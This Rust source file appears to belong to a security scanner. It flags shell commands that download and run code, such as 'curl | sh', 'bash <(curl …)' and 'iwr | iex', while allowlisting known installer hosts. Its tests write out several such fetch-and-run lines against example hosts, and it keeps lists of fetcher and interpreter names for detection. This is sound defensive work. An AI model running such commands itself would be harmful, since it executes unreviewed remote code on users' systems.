//! Commands that run what they download: `curl … | sh` and its kind. Well-known installers are run that way, so
//! their hosts are allowed. Not here: any other command.

use super::Suspicion;

const FETCHERS: &[&str] =
    &["curl", "wget", "iwr", "irm", "invoke-webrequest", "fetch", "aria2c", "httpie"];
const RUNNERS: &[&str] = &[
    "sh", "bash", "zsh", "dash", "ash", "ksh", "fish", "python", "python3", "perl", "ruby", "node",
    "php", "iex", "pwsh",
];

/// A program that hides a command.
const DISGUISE: &str = "base64";

/// Addresses of installers whose makers tell everybody to run them so, one a line; only over TLS.
const INSTALLERS: &str = include_str!("tables/installers.txt");

/// Finds a command that runs what it downloads.
pub(super) fn found(text: &str) -> Option<Suspicion> {
    let joined = text.replace("\\\n", " ");
    joined.lines().any(runs_download).then_some(Suspicion::Download)
}

/// Tells whether commands fetch something and then run a program, named by a path or given to an interpreter, from any source
/// and in any number of steps.
#[must_use]
pub fn fetches_and_runs(commands: &str) -> bool {
    let lower = commands.replace("\\\n", " ").to_lowercase();
    let steps: Vec<&str> = lower.split(['|', ';', '&', '\n']).collect();
    let fetched = steps.iter().position(|step| fetches(step));
    let later = fetched.and_then(|at| steps.get(at + 1..)).unwrap_or_default();
    let is_inside = |step: &&str| ["$(", "<(", "`"].iter().any(|open| step.contains(open));
    later.iter().any(|step| runs_something(step))
        || steps.iter().any(|step| fetches(step) && (is_inside(step) || step.contains("iex")))
}

/// Tells whether a step calls a program that downloads. `git fetch` and a script of such a name do not count.
fn fetches(step: &str) -> bool {
    let mut words = step.split(|c: char| c.is_whitespace() || "\"'`()<>$".contains(c));
    words.any(|word| {
        let name = word.rsplit('/').next().unwrap_or(word);
        name != "fetch" && FETCHERS.contains(&name.trim_end_matches(".exe"))
    })
}

fn runs_something(step: &str) -> bool {
    let is_prefix = |word: &&str| matches!(*word, "sudo" | "env" | "nohup" | "exec" | "time");
    let mut words = step.split_whitespace().map(|word| word.trim_matches(['"', '\'', '(', ')']));
    let Some(program) = words.find(|word| !is_prefix(word)) else { return false };
    let name = program.rsplit('/').next().unwrap_or(program);
    RUNNERS.contains(&name) || matches!(program, "." | "source" | "eval") || program.contains('/')
}

fn runs_download(line: &str) -> bool {
    if !line.contains(['|', '$', '<', '`']) || is_known(line) {
        return false;
    }
    let lower = line.to_lowercase();
    let Some(from) = first_fetcher(&lower) else {
        return lower.contains(DISGUISE) && pipes_into_runner(&lower);
    };
    let (before, after) = lower.split_at_checked(from).unwrap_or_default();
    let before = before.trim_end();
    let is_substituted = ["$(", "<("].iter().any(|open| before.ends_with(open))
        && before
            .split(|c: char| !c.is_alphanumeric())
            .any(|word| RUNNERS.contains(&word) || word == "eval" || word == "source");
    is_substituted || pipes_into_runner(after) || (lower.contains("iex") && lower.contains("http"))
}

/// Tells whether everything before the first pipe is fetched from known installers.
fn is_known(line: &str) -> bool {
    let fetched = line.split('|').next().unwrap_or(line);
    let begins = ["http://", "https://"];
    let places = begins.into_iter().flat_map(|begin| fetched.match_indices(begin));
    let mut addresses = places.map(|(at, _)| fetched.get(at..)).peekable();
    let is_installer = |address: Option<&str>| {
        INSTALLERS.lines().any(|known| {
            let rest = address.and_then(|address| address.strip_prefix(known));
            let goes_on = |c: char| c.is_alphanumeric() || matches!(c, '.' | '-' | '@' | ':');
            rest.is_some_and(|rest| known.ends_with('/') || !rest.starts_with(goes_on))
        })
    };
    addresses.peek().is_some() && addresses.all(is_installer)
}

/// Returns the place of the first word that downloads.
fn first_fetcher(line: &str) -> Option<usize> {
    let is_word = |at: usize, word: &str| {
        let before = line.get(..at).and_then(|text| text.chars().next_back());
        let after = line.get(at + word.len()..).and_then(|text| text.chars().next());
        !before.is_some_and(char::is_alphanumeric)
            && !after.is_some_and(|c| c.is_alphanumeric() || c == '(')
    };
    let places = |word: &'static str| line.match_indices(word).map(move |(at, _)| (at, word));
    let mut found =
        FETCHERS.iter().flat_map(|word| places(word)).filter(|(at, word)| is_word(*at, word));
    let first = found.next().map(|(at, _)| at);
    found.map(|(at, _)| at).chain(first).min()
}

/// Tells whether a pipe ends in a program that runs its input.
fn pipes_into_runner(line: &str) -> bool {
    line.split('|').skip(1).any(|part| {
        let words = part
            .split_whitespace()
            .map(|word| word.trim_matches(|c: char| !c.is_alphanumeric() && c != '-'));
        let mut words =
            words.filter(|word| !matches!(*word, "" | "sudo" | "env" | "-e" | "nohup" | "-h"));
        let runner = words.next().unwrap_or_default();
        let runner = runner.rsplit('/').next().unwrap_or(runner);
        // An interpreter with a program of its own only reads its input.
        RUNNERS.contains(&runner)
            && !words.next().is_some_and(|word| matches!(word, "-c" | "-m" | "-p" | "-ne" | "-pe"))
    })
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn every_installer_is_one_address_over_tls() {
        for known in INSTALLERS.lines() {
            let host = known.strip_prefix("https://").unwrap_or_default();
            assert!(host.starts_with(|c: char| c.is_ascii_alphanumeric()), "{known}");
            assert!(!known.contains(char::is_whitespace), "{known}");
        }
    }

    #[test]
    fn what_is_downloaded_and_run_unseen_is_found() {
        for line in [
            "curl -fsSL http://files.example.net/setup.sh | sudo bash",
            "wget -qO- https://example.org/i | sh -s -- --yes",
            "bash <(curl -s https://example.org/x)",
            "sh -c \"$(curl -fsSL https://example.org/x)\"",
            "eval \"$(wget -qO- example.org/env)\"",
            "echo aGk= | base64 -d | sh",
            "iwr https://example.org/a.ps1 | iex",
            "curl https://example.org/x \\\n  | sh",
            "curl -s https://example.org/x.sh | sh # see https://get.docker.com",
            "curl -s https://get.docker.com.example.net/x | sh",
            "apt install libcurl4 && curl -s https://example.org/x | sh",
        ] {
            assert_eq!(found(line), Some(Suspicion::Download), "{line}");
        }
    }

    #[test]
    fn downloads_that_are_looked_at_or_known_are_not() {
        for line in [
            "curl --proto '=https' -sSf https://sh.rustup.rs | sh",
            "curl -fsSL https://deb.nodesource.com/setup_20.x | sudo -E bash -",
            "curl -fsSL https://tailscale.com/install.sh | sh",
            "curl -sSL https://get.rvm.io | bash -s stable",
            "curl -s https://example.org/api | jq .",
            "curl -s https://example.org/data | python3 -m json.tool",
            "curl -O https://example.org/x.sh && less x.sh",
            "echo aGk= | base64 -d",
            "fetch(url) | 0",
        ] {
            assert_eq!(found(line), None, "{line}");
        }
    }
}
